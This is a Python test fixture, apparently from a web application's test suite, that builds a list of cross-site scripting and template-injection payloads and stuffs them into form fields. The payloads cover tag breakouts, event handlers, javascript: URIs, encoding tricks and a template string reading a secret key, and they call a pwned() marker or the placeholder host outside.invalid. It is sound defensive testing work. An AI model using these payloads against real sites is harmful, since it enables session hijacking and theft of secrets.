"""Pieces of code that would do something if a page took them for its own.

Each calls `pwned()` or asks for something at `outside.invalid`.
"""

from itertools import cycle, product

from tests.injected import Field, name_of

OUTSIDE = "//outside.invalid/x"
BREAKS = (  # out of an attribute, of an element that holds text, of a script
    "",
    '">',
    "'>",
    " x=",
    "</textarea></title>",
    "</script>",
    "</style>-->]]>",
    "</option></select>",
)
CODE = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    f"<script src={OUTSIDE}></script>",
    "<img src=x onerror=pwned()>",
    "<img src=x: onerror='pwned()' ",  # left open
    f"<img src={OUTSIDE}>",
    f"<link rel=stylesheet href={OUTSIDE}>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "<body onpageshow=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<iframe src=javascript:parent.pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    f"<object data={OUTSIDE}>",
    "<math><mi xlink:href=javascript:pwned()>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<base href={OUTSIDE}>",
)
ALONE = (  # where no mark opens a tag
    "javascript:pwned()",
    "JaVaScRiPt:pwned()//",
    "java\tscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    '" autofocus onfocus="pwned()',
    "' autofocus onfocus='pwned()",
    '" style="background:url(//outside.invalid/x)',
    "';pwned();//",
    '";pwned();//',
    "`;pwned();//",
    "${pwned()}",
    "{{constructor.constructor('pwned()')()}}",
    "{% include 'x' %}{{ settings.SECRET_KEY }}",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "＜script＞pwned()＜/script＞",
    "\u2028pwned()\u2029",
    "<<script>pwned()//<</script>",
    "<!--<img src='--><img src=x onerror=pwned()>",
    "[x](javascript:pwned())",
    f"![x](https:{OUTSIDE})",
)
PAYLOADS = (*(out + code for out, code in product(BREAKS, CODE)), *ALONE)


class Everything:
    """As many as there is room for, each text beginning where the last one ended."""

    def __init__(self) -> None:
        self._next = cycle(PAYLOADS)
        self.written: dict[str, set[str]] = {}

    def __call__(self, field: Field, limit: int) -> str:
        said: list[str] = []
        for _each in PAYLOADS:
            payload = next(self._next)
            if len("\n".join([*said, payload])) <= limit:
                said.append(payload)
            elif said:
                break
        self.written.setdefault(name_of(field), set()).update(said)
        return "\n".join(said)
